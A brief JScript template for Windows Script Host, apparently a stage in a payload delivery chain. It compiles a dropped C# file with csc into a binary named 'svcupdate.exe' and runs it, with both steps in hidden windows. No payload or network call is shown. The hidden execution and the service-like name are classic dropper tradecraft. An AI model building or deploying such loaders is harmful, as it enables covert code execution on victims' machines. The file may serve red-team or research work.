// Delivered JScript run by wscript: compiles the dropped C# source with csc and runs the result.
var sh = new ActiveXObject("WScript.Shell");
var dir = "__DIR__";
var rc = sh.Run('"__CSC__" /nologo /target:exe /out:"' + dir + '\\svcupdate.exe" "' + dir + '\\tool.cs"', 0, true);
if (rc !== 0) {
    WScript.Quit(rc);
}
rc = sh.Run('"' + dir + '\\svcupdate.exe" wscript', 0, true);
WScript.Quit(rc);
